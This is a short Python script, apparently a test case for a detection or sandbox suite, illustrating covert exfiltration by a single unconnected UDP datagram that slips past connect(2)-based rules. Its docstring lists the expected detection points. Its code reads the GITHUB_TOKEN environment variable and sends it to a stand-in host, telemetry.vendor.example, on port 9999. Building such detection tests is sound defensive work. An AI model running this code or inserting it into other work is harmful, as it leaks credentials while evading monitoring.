#!/usr/bin/python3
"""
Trick: Sends a secret in one datagram that no connection announces.
Known from: exfiltration kits; rules on connect(2) see nothing of an unconnected send.
First: sendto at entry and exit
Second: the cgroup hook's copy of the address; the sinkhole's record of the datagram
"""

import os
import socket

channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
channel.sendto(os.environ["GITHUB_TOKEN"].encode(), ("telemetry.vendor.example", 9999))
print("performed")
